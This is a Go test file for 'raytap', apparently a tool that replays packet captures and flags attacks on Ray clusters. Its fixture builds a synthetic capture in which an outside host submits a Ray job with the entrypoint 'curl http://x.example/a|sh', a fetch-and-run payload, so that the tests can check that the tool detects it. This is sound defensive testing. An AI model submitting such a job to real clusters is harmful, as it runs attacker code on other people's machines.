@@ -1,0 +1,482 @@
+package main
+
+import (
+	"bytes"
+	"encoding/binary"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// program is the binary under test, built once.
+var program string
+
+func TestMain(m *testing.M) {
+	dir, err := os.MkdirTemp("", "raytap-cmd-")
+	if err != nil {
+		panic(err)
+	}
+	program = filepath.Join(dir, "raytap")
+	if out, err := exec.Command("go", "build", "-o", program, ".").CombinedOutput(); err != nil {
+		os.Stderr.Write(out)
+		os.RemoveAll(dir)
+		os.Exit(1)
+	}
+	code := m.Run()
+	os.RemoveAll(dir)
+	os.Exit(code)
+}
+
+type result struct {
+	code           int
+	stdout, stderr string
+}
+
+// invoke runs the program in a directory of its own, with stdin.
+func invoke(t *testing.T, dir string, stdin []byte, args ...string) result {
+	t.Helper()
+	cmd := exec.Command(program, args...)
+	cmd.Dir = dir
+	cmd.Stdin = bytes.NewReader(stdin)
+	var out, errs bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &errs
+	err := cmd.Run()
+	var exit *exec.ExitError
+	if err != nil && !errors.As(err, &exit) {
+		t.Fatal(err)
+	}
+	r := result{cmd.ProcessState.ExitCode(), out.String(), errs.String()}
+	if strings.Contains(r.stderr, "goroutine ") || strings.ContainsAny(r.stdout+r.stderr, "\x1b\r") {
+		t.Errorf("%v: stdout %q, stderr %q", args, r.stdout, r.stderr)
+	}
+	return r
+}
+
+func (r result) expect(t *testing.T, code int, stdout, stderr string) {
+	t.Helper()
+	if r.code != code {
+		t.Errorf("exit status %d, want %d", r.code, code)
+	}
+	for _, c := range [...]struct{ name, got, want string }{{"stdout", r.stdout, stdout}, {"stderr", r.stderr, stderr}} {
+		if c.want == "" && c.got != "" || !strings.Contains(c.got, c.want) {
+			t.Errorf("%s is %q, want %q", c.name, c.got, c.want)
+		}
+	}
+	if t.Failed() {
+		t.Logf("stdout: %s\nstderr: %s", r.stdout, r.stderr)
+	}
+}
+
+// attack is a capture in which 203.0.113.66 submits a job to the Ray at 10.20.0.10 and is told that it runs.
+func attack(start uint32) []byte {
+	message := func(head, body string) string {
+		return fmt.Sprintf("%s\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", head, len(body), body)
+	}
+	request := message("POST /api/jobs/ HTTP/1.1", `{"entrypoint":"curl http://x.example/a|sh"}`)
+	answer := message("HTTP/1.1 200 OK", `{"job_id":"raysubmit_aaaaaaaaaaaaaaaa","submission_id":"raysubmit_aaaaaaaaaaaaaaaa"}`)
+	type step struct {
+		out      bool // from the attacker
+		flags    byte
+		seq, ack uint32
+		data     string
+	}
+	const syn, fin, ack, psh = 2, 1, 16, 8
+	q, a := uint32(len(request)), uint32(len(answer))
+	// little-endian, microseconds, Ethernet
+	b := []byte{0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 0, 0, 0}
+	for i, s := range []step{
+		{true, syn, 100, 0, ""}, {false, syn | ack, 500, 101, ""}, {true, ack, 101, 501, ""},
+		{true, psh | ack, 101, 501, request}, {false, psh | ack, 501, 101 + q, answer},
+		{true, fin | ack, 101 + q, 501 + a, ""}, {false, fin | ack, 501 + a, 102 + q, ""}, {true, ack, 102 + q, 502 + a, ""},
+	} {
+		src, dst, sport, dport := [4]byte{203, 0, 113, 66}, [4]byte{10, 20, 0, 10}, uint16(40000), uint16(8265)
+		if !s.out {
+			src, dst, sport, dport = dst, src, dport, sport
+		}
+		tcp := binary.BigEndian.AppendUint16(nil, sport)
+		tcp = binary.BigEndian.AppendUint16(tcp, dport)
+		tcp = binary.BigEndian.AppendUint32(tcp, s.seq)
+		tcp = binary.BigEndian.AppendUint32(tcp, s.ack)
+		tcp = append(tcp, 5<<4, s.flags, 0x20, 0, 0, 0, 0, 0)
+		tcp = append(tcp, s.data...)
+		pseudo := append(append(append([]byte{}, src[:]...), dst[:]...), 0, 6, byte(len(tcp)>>8), byte(len(tcp)))
+		binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))
+		ip := []byte{0x45, 0, 0, 0, 0, byte(i), 0x40, 0, 64, 6, 0, 0}
+		binary.BigEndian.PutUint16(ip[2:], uint16(20+len(tcp)))
+		ip = append(append(ip, src[:]...), dst[:]...)
+		binary.BigEndian.PutUint16(ip[10:], checksum(ip))
+		frame := append([]byte{2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0}, append(ip, tcp...)...)
+		for _, v := range [...]uint32{start, uint32(i) * 1000, uint32(len(frame)), uint32(len(frame))} {
+			b = binary.LittleEndian.AppendUint32(b, v)
+		}
+		b = append(b, frame...)
+	}
+	return b
+}
+
+// checksum is RFC 1071's.
+func checksum(b []byte) uint16 {
+	var sum uint32
+	for i := 0; i+1 < len(b); i += 2 {
+		sum += uint32(b[i])<<8 | uint32(b[i+1])
+	}
+	if len(b)%2 == 1 {
+		sum += uint32(b[len(b)-1]) << 8
+	}
+	for sum > 0xffff {
+		sum = sum>>16 + sum&0xffff
+	}
+	return ^uint16(sum)
+}
+
+// folder makes a directory with files.
+func folder(t *testing.T, files map[string]string) string {
+	t.Helper()
+	dir := t.TempDir()
+	for name, text := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+func read(t *testing.T, parts ...string) string {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(parts...))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+func TestReplayTellsTheStory(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	r := invoke(t, dir, nil, "replay", "a.pcap")
+	r.expect(t, 0, "203.0.113.66", "")
+	if !strings.Contains(r.stdout, "[jobsubmit/external, C") || !strings.Contains(r.stdout, "\n8 packets; ") {
+		t.Errorf("stdout %s", r.stdout)
+	}
+	// The most severe stands first.
+	if !strings.HasPrefix(r.stdout, "critical  2023-11-14 22:13:20  ") {
+		t.Errorf("first line of %s", r.stdout)
+	}
+	for _, log := range []string{"conn", "http", "notice", "stats"} {
+		if s := read(t, dir, "raytap-logs", log+".log"); !strings.HasPrefix(s, "#separator \\x09\n") || !strings.Contains(s, "\n#close\t2023-11-14-22-13-20\n") {
+			t.Errorf("%s.log: %s", log, s)
+		}
+	}
+}
+
+func TestReplayJSON(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	invoke(t, dir, nil, "replay", "--format=json", "--out", "x/y", "a.pcap").expect(t, 0, "job", "")
+	for line := range strings.Lines(read(t, dir, "x", "y", "notice.log")) {
+		var row map[string]any
+		if err := json.Unmarshal([]byte(line), &row); err != nil {
+			t.Fatalf("%s: %v", line, err)
+		}
+		for _, k := range []string{"ts", "uid", "note", "msg", "src", "dst", "rule", "severity"} {
+			if row[k] == nil {
+				t.Errorf("no %s in %s", k, line)
+			}
+		}
+	}
+}
+
+func TestTwoRunsAreByteIdentical(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "b.pcap": string(attack(1600000000))})
+	invoke(t, dir, nil, "replay", "--out=1", "--workers=1", "a.pcap", "b.pcap").expect(t, 0, "16 packets", "")
+	invoke(t, dir, nil, "replay", "--out=2", "--workers=8", "b.pcap", "a.pcap").expect(t, 0, "16 packets", "")
+	files, err := os.ReadDir(filepath.Join(dir, "1"))
+	if err != nil || len(files) < 4 {
+		t.Fatal(files, err)
+	}
+	for _, f := range files {
+		if read(t, dir, "1", f.Name()) != read(t, dir, "2", f.Name()) {
+			t.Errorf("%s differs", f.Name())
+		}
+	}
+}
+
+func TestStandardInput(t *testing.T) {
+	invoke(t, t.TempDir(), attack(1700000000), "replay", "-").expect(t, 0, "8 packets", "")
+	invoke(t, t.TempDir(), nil, "replay", "-").expect(t, 1, "", "standard input")
+}
+
+func TestFailOn(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	for _, c := range []struct {
+		args []string
+		code int
+	}{
+		{[]string{"--fail-on", "critical"}, 3},
+		{[]string{"--fail-on=info"}, 3},
+		{[]string{}, 0},
+		{[]string{"--fail-on=info", "--filter=port 1"}, 0},
+	} {
+		if r := invoke(t, dir, nil, append([]string{"replay", "a.pcap"}, c.args...)...); r.code != c.code {
+			t.Errorf("%v: exit status %d, want %d\n%s%s", c.args, r.code, c.code, r.stdout, r.stderr)
+		}
+	}
+}
+
+func TestHomeIsRepeatable(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	r := invoke(t, dir, nil, "replay", "--home=10.0.0.0/8", "--home", "203.0.113.0/24", "a.pcap")
+	r.expect(t, 0, "8 packets", "")
+	if strings.Contains(r.stdout, "jobsubmit/external") {
+		t.Errorf("both ends are at home, but: %s", r.stdout)
+	}
+	if conn := read(t, dir, "raytap-logs", "conn.log"); !strings.Contains(conn, "\tSF\tT\tT\t") {
+		t.Errorf("conn.log: %s", conn)
+	}
+}
+
+func TestQuietSaysNothingButErrors(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	invoke(t, dir, nil, "replay", "--quiet", "--fail-on=high", "a.pcap").expect(t, 3, "", "")
+	invoke(t, dir, nil, "replay", "--quiet", "none.pcap").expect(t, 1, "", "none.pcap")
+}
+
+func TestFilter(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	r := invoke(t, dir, nil, "replay", "--filter", "port 53", "a.pcap")
+	r.expect(t, 0, "0 flows; ", "")
+	invoke(t, dir, nil, "replay", "--filter", "port and", "a.pcap").expect(t, 2, "", "filter: ")
+}
+
+func TestWrongUsage(t *testing.T) {
+	dir := folder(t, map[string]string{
+		"a.pcap":     string(attack(1700000000)),
+		"bad.yaml":   "workers: 1\n\nhomes: []\n",
+		"value.yaml": "egress:\n  bytes: much\n",
+	})
+	for _, c := range []struct {
+		args string
+		want string
+	}{
+		{"", "usage: raytap COMMAND"},
+		{"replaay a.pcap", `unknown command "replaay"`},
+		{"replay", "no capture given"},
+		{"replay --quiet", "no capture given"},
+		{"replay --colour a.pcap", "unknown flag --colour"},
+		{"replay a.pcap --colour=1", "unknown flag --colour\n"},
+		{"replay -x a.pcap", "unknown flag -x"},
+		{"replay a.pcap --out", "flag --out needs a value"},
+		{"replay a.pcap --out=", "out: is empty"},
+		{"replay --workers many a.pcap", `flag --workers: "many": `},
+		{"replay --workers=-1 a.pcap", "workers: -1"},
+		{"replay --quiet=perhaps a.pcap", `flag --quiet: "perhaps": `},
+		{"replay --home 10.0.0.0/33 a.pcap", `home: "10.0.0.0/33"`},
+		{"replay --home 10.0.0.0/8 --home x a.pcap", `home: "x"`},
+		{"replay --format xml a.pcap", `format: "xml"`},
+		{"replay --fail-on bad a.pcap", `fail_on: unknown severity "bad"`},
+		{"replay --config none.yaml a.pcap", "none.yaml"},
+		{"replay --config bad.yaml a.pcap", "bad.yaml:3: homes: unknown key"},
+		{"replay --config value.yaml a.pcap", `value.yaml:2: egress.bytes: "much"`},
+		{"rules all", "takes no arguments"},
+		{"rules --yaml", "unknown flag --yaml"},
+		{"version now", "takes no arguments"},
+		{"help nothing", `unknown command "nothing"`},
+	} {
+		r := invoke(t, dir, nil, strings.Fields(c.args)...)
+		if r.code != 2 || r.stdout != "" || !strings.Contains(r.stderr, c.want) {
+			t.Errorf("raytap %s: exit status %d, stdout %q, stderr %q; want %q", c.args, r.code, r.stdout, r.stderr, c.want)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(dir, "raytap-logs")); err == nil {
+		t.Error("logs were written")
+	}
+}
+
+func TestFlagsStandAnywhere(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "--quiet": string(attack(1600000000))})
+	invoke(t, dir, nil, "replay", "a.pcap", "--out", "1", "-quiet").expect(t, 0, "", "")
+	invoke(t, dir, nil, "replay", "-out=2", "a.pcap", "--", "--quiet").expect(t, 0, "16 packets", "")
+	// a value that looks like a flag, or like the end of flags
+	invoke(t, dir, nil, "replay", "--out", "--", "a.pcap").expect(t, 0, "8 packets", "")
+	for _, out := range []string{"1", "2", "--"} {
+		if _, err := os.Stat(filepath.Join(dir, out, "conn.log")); err != nil {
+			t.Error(err)
+		}
+	}
+}
+
+func TestFlagsWinOverTheConfiguration(t *testing.T) {
+	dir := folder(t, map[string]string{
+		"a.pcap": string(attack(1700000000)),
+		"c.yaml": "out: from-file\nformat: json\nfail_on: critical\nquiet: true\n",
+	})
+	invoke(t, dir, nil, "replay", "--config=c.yaml", "a.pcap").expect(t, 3, "", "")
+	if s := read(t, dir, "from-file", "conn.log"); !strings.HasPrefix(s, "{") {
+		t.Errorf("conn.log: %s", s)
+	}
+	invoke(t, dir, nil, "replay", "--format=zeek", "--config=c.yaml", "--out=flag", "--quiet=false", "--fail-on=", "a.pcap").expect(t, 0, "8 packets", "")
+	if s := read(t, dir, "flag", "conn.log"); !strings.HasPrefix(s, "#") {
+		t.Errorf("conn.log: %s", s)
+	}
+}
+
+// TestDamagedInputs: what came before the damage is written, and each bad file has its message.
+func TestDamagedInputs(t *testing.T) {
+	whole := attack(1700000000)
+	longRecord := append([]byte{}, whole...)
+	longRecord = append(longRecord, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, 0x7f)
+	dir := folder(t, map[string]string{
+		"whole.pcap": string(whole),
+		"cut.pcap":   string(whole[:len(whole)-3]),
+		"long.pcap":  string(longRecord),
+		"text.pcap":  "this is no capture, but some text that is long enough to be looked at",
+		"empty.pcap": "",
+	})
+	offset := regexp.MustCompile(`offset \d+: `)
+	for _, c := range []struct {
+		args, stdout string
+		stderr       []string
+	}{
+		{"cut.pcap", "[jobsubmit/external, ", []string{"cut.pcap"}},
+		{"long.pcap", "8 packets", []string{"long.pcap"}},
+		{"none.pcap", "", []string{"none.pcap"}},
+		{"text.pcap", "", []string{"text.pcap"}},
+		{"empty.pcap", "", []string{"empty.pcap"}},
+		{"none.pcap text.pcap whole.pcap empty.pcap", "8 packets", []string{"none.pcap", "text.pcap", "empty.pcap"}},
+	} {
+		r := invoke(t, dir, nil, append([]string{"replay", "--out=logs-" + strings.ReplaceAll(c.args, " ", "+")}, strings.Fields(c.args)...)...)
+		if r.code != 1 || !strings.Contains(r.stdout, c.stdout) {
+			t.Errorf("%s: exit status %d, stdout %q", c.args, r.code, r.stdout)
+		}
+		lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
+		if len(lines) != len(c.stderr) {
+			t.Errorf("%s: stderr %q", c.args, r.stderr)
+			continue
+		}
+		for i, l := range lines {
+			if !strings.HasPrefix(l, "raytap: ") || !strings.Contains(l, c.stderr[i]) || c.stderr[i] != "none.pcap" && !offset.MatchString(l) {
+				t.Errorf("%s: message %q", c.args, l)
+			}
+		}
+	}
+	if s := read(t, dir, "logs-cut.pcap", "notice.log"); !strings.Contains(s, "Raytap::Job_Submit_External") || !strings.Contains(s, "\n#close\t") {
+		t.Errorf("notice.log of the cut capture: %s", s)
+	}
+}
+
+func TestFindingStandsAboveDamage(t *testing.T) {
+	whole := attack(1700000000)
+	dir := folder(t, map[string]string{"cut.pcap": string(whole[:len(whole)-3])})
+	invoke(t, dir, nil, "replay", "--fail-on=high", "cut.pcap").expect(t, 3, "jobsubmit/external", "cut.pcap")
+}
+
+func TestOutputThatCannotBeWritten(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "file": ""})
+	invoke(t, dir, nil, "replay", "--out=file", "a.pcap").expect(t, 1, "", "raytap: cannot make the log directory: ")
+}
+
+func TestInterruptClosesTheLogs(t *testing.T) {
+	dir := t.TempDir()
+	cmd := exec.Command(program, "replay", "-")
+	cmd.Dir = dir
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out, errs bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &errs
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	// More is sent after the signal, so that a read that waits comes back; when it has ended writing fails.
+	if _, err := stdin.Write(attack(1700000000)); err != nil {
+		t.Fatal(err)
+	}
+	records := attack(1700000001)[24:]
+	for sent := false; ; time.Sleep(10 * time.Millisecond) {
+		if _, err := os.Stat(filepath.Join(dir, "raytap-logs")); err == nil && !sent {
+			if err := cmd.Process.Signal(os.Interrupt); err != nil {
+				t.Fatal(err)
+			}
+			sent = true
+		}
+		if _, err := stdin.Write(records); err != nil {
+			break
+		}
+	}
+	err = cmd.Wait()
+	if cmd.ProcessState.ExitCode() != 130 || !strings.Contains(errs.String(), "interrupted") || !strings.Contains(out.String(), "packets") {
+		t.Errorf("%v: stdout %q, stderr %q", err, out.String(), errs.String())
+	}
+	if s := read(t, dir, "raytap-logs", "stats.log"); !strings.Contains(s, "\n#close\t") {
+		t.Errorf("stats.log: %s", s)
+	}
+	if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
+		t.Error("killed by the signal")
+	}
+}
+
+func TestRulesText(t *testing.T) {
+	r := invoke(t, t.TempDir(), nil, "rules")
+	r.expect(t, 0, "jobsubmit/external", "")
+	for _, want := range []string{"mining/stratum", "egress/large", "  ATLAS            AML.T", "  ATT&CK           T", "  needs to see     ", "  false positives  "} {
+		if !strings.Contains(r.stdout, want) {
+			t.Errorf("no %q in %s", want, r.stdout)
+		}
+	}
+}
+
+func TestRulesJSON(t *testing.T) {
+	r := invoke(t, t.TempDir(), nil, "rules", "--json")
+	var rules []ruleJSON
+	if err := json.Unmarshal([]byte(r.stdout), &rules); err != nil || r.code != 0 {
+		t.Fatalf("exit status %d, %v: %s", r.code, err, r.stdout)
+	}
+	if len(rules) < 14 {
+		t.Errorf("%d rules", len(rules))
+	}
+	for _, r := range rules {
+		if r.Name == "" || r.Says == "" || r.Severity == "" || !strings.HasPrefix(r.Note, "Raytap::") || len(r.ATTACK) == 0 || r.ATTACK[0].Name == "" {
+			t.Errorf("%+v", r)
+		}
+	}
+}
+
+func TestVersionAndHelp(t *testing.T) {
+	dir := t.TempDir()
+	for _, args := range []string{"version", "--version"} {
+		invoke(t, dir, nil, args).expect(t, 0, "raytap ", "")
+	}
+	for _, args := range []string{"help", "--help", "-h"} {
+		invoke(t, dir, nil, args).expect(t, 0, "usage: raytap COMMAND", "")
+	}
+	for _, args := range []string{"help replay", "replay --help", "replay -h", "replay a.pcap --out x --help"} {
+		r := invoke(t, dir, nil, strings.Fields(args)...)
+		r.expect(t, 0, "usage: raytap replay [flags] FILE...", "")
+		for _, flag := range []string{"--out DIR", "--format FORMAT", "--home CIDR", "--workers N", "--filter BPF", "--config FILE", "--fail-on SEVERITY", "--quiet ", "--ignore-checksums "} {
+			if !strings.Contains(r.stdout, "  "+flag) {
+				t.Errorf("%s: no %s in\n%s", args, flag, r.stdout)
+			}
+		}
+		if strings.Contains(r.stdout, "profile") {
+			t.Errorf("%s tells of hidden flags", args)
+		}
+	}
+}
+
+func TestHiddenFlags(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	invoke(t, dir, nil, "replay", "--cpuprofile=c", "--memprofile=m", "--trace=t", "a.pcap").expect(t, 0, "8 packets", "")
+	for _, name := range []string{"c", "m", "t"} {
+		if read(t, dir, name) == "" {
+			t.Errorf("%s is empty", name)
+		}
+	}
+	invoke(t, dir, nil, "replay", "--cpuprofile=none/c", "a.pcap").expect(t, 2, "", "none/c")
+}
